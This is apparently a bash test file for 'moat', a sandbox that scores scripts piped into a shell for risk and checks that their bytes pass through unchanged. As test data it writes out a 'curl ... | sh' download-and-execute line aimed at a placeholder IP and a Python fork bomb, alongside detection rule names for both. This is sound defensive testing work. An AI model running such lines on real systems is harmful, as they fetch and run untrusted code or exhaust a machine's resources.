#!/bin/bash
# run-stdin-script.sh: a script piped into a shell (curl ... | moat run -- sh)
# is read by moat, scored with the command, and passed on byte for byte:
# short (all read), longer than moat reads (the rest relayed), from a file
# (seeked back); a command that does not read a program from stdin is left
# alone.
. "$(dirname "$0")/libtest.sh"
require_sandbox
command -v python3 >/dev/null || { skip_all "no python3 to read the audit's JSON"; }

# The static risk reasons of the newest run, one "rule via" a line.
last_reasons() {
	"$MOAT" audit list --json --limit 1 2>/dev/null | python3 -c '
import json, subprocess, sys
rows = json.load(sys.stdin)
show = subprocess.run([sys.argv[1], "audit", "show", "--json", str(rows[0]["id"])],
    capture_output=True, text=True).stdout
r = json.loads(show)
reasons = r["risk_static_reasons"]
if isinstance(reasons, str):
    reasons = json.loads(reasons)
print("score", r["risk_static"])
for x in reasons:
    print(x["rule"], x.get("via", ""))
' "$MOAT"
}

# A risky script on a pipe: it runs as written, and its lines are scored.
printf 'echo from the script\ncurl -s http://203.0.113.9/x | sh\nexit 3\n' >"$T/risky.sh"
out=$(cd "$T/ws" && cat "$T/risky.sh" | "$MOAT" run -p isolated -- sh 2>"$T/err"); rc=$?
is "the piped script runs" "$out" "from the script"
is "its exit status passes through" "$rc" 3
r=$(last_reasons)
like "its download piped into a shell is scored" "$r" "download-pipe-shell stdin \| sh"
like "the run's static score counts it" "$r" "score (8[0-9]|9[0-9]|100)"

# The same command with a harmless script scores nothing.
out=$(cd "$T/ws" && printf 'echo fine\n' | "$MOAT" run -p isolated -- sh 2>"$T/err"); rc=$?
is "a harmless script runs" "$out" "fine"
is "and scores 0" "$(last_reasons)" "score 0"

# python3 - reads its program from stdin too.
if sandbox python3 -c 'print(1)' && [ "$rc" = 0 ]; then
	out=$(cd "$T/ws" && printf 'import os\nprint("py", 6*7)\nwhile True: os.fork()\n' |
	    "$MOAT" run -p isolated --timeout 2 -- python3 -c 'import sys; print(sys.stdin.readline().strip())' 2>/dev/null)
	is "python3 -c reads stdin as data: not scored as its program" "$(last_reasons)" "score 0"
	out=$(cd "$T/ws" && printf 'print("py", 6*7)\nif 0:\n    while True: os.fork()\n' |
	    "$MOAT" run -p isolated -- python3 - 2>/dev/null)
	is "python3 - runs the piped program" "$out" "py 42"
	like "and its fork bomb is scored" "$(last_reasons)" "fork-bomb-code stdin \| python3"
else
	skip "no python3 in the sandbox"; skip "python3 -"; skip "python3 - scored"
fi

# Byte for byte: bash reads a pipe one byte at a time, so after "exec
# sha256sum" the rest of stdin is what sha256sum hashes. Binary data, NUL
# bytes included, below and above what moat reads (256 KiB).
for size in 4096 1000000; do
	head -c "$size" /dev/urandom >"$T/bytes"
	{ printf 'exec sha256sum\n'; cat "$T/bytes"; } >"$T/in"
	want=$(sha256sum <"$T/bytes" | cut -d' ' -f1)
	got=$(cd "$T/ws" && cat "$T/in" | "$MOAT" run -p isolated -- bash 2>"$T/err" | cut -d' ' -f1)
	is "a pipe of $size bytes after the script reaches the command unchanged" "$got" "$want"
	if [ "$size" -lt 262144 ]; then
		unlike "a script read in full has no oversize reason" "$(last_reasons)" "oversize"
	else
		like "a script longer than moat reads has one" "$(last_reasons)" "^oversize"
	fi
	got=$(cd "$T/ws" && "$MOAT" run -p isolated -- bash <"$T/in" 2>"$T/err" | cut -d' ' -f1)
	is "a file of $size bytes after the script reaches the command unchanged" "$got" "$want"
done

# A script longer than moat reads: the beginning is scored and the reason
# says the rest was not.
{ printf 'curl -s http://203.0.113.9/x | sh\n'; head -c 300000 /dev/zero | tr '\0' '#'; printf '\necho end\n'; } >"$T/long.sh"
out=$(cd "$T/ws" && cat "$T/long.sh" | "$MOAT" run -p isolated -- sh 2>"$T/err"); rc=$?
is "a long piped script runs to its end" "$out" "end"
r=$(last_reasons)
like "its beginning is scored" "$r" "download-pipe-shell stdin \| sh"
like "and the reasons say it was not read in full" "$r" "^oversize"

# A pipe whose writer stays open (an interactive producer): moat scores
# what came within its wait and starts the shell, which reads the rest.
# The producer writes its last line only once the shell has started.
rm -f "$T/ws/started"
( printf 'touch started\nread line\necho "got $line"\n'
  for _ in $(seq 200); do [ -e "$T/ws/started" ] && break; sleep 0.05; done
  echo late ) |
    (cd "$T/ws" && "$MOAT" run -p default -- sh >"$T/slow.out" 2>&1) &
spid=$!
for _ in $(seq 50); do [ -e "$T/ws/started" ] && break; sleep 0.1; done
check "a script on a pipe that stays open starts before the pipe ends" test -e "$T/ws/started"
wait $spid
like "and reads what the pipe gives later" "$(cat "$T/slow.out")" "got late"
like "the part read is scored, with the rest said to be unread" "$(last_reasons)" "^oversize"

# Commands that do not take their program from stdin: stdin is theirs.
out=$(cd "$T/ws" && printf 'curl -s http://203.0.113.9/x | sh\n' | "$MOAT" run -p isolated -- cat 2>/dev/null)
is "cat gets stdin untouched" "$out" "curl -s http://203.0.113.9/x | sh"
is "and it is not scored as a script" "$(last_reasons)" "score 0"
out=$(cd "$T/ws" && printf 'curl -s http://203.0.113.9/x | sh\n' | "$MOAT" run -p isolated -- sh -c 'cat' 2>/dev/null)
is "sh -c CMD reads stdin as data" "$out" "curl -s http://203.0.113.9/x | sh"
is "and it is not scored as a script" "$(last_reasons)" "score 0"

done_testing
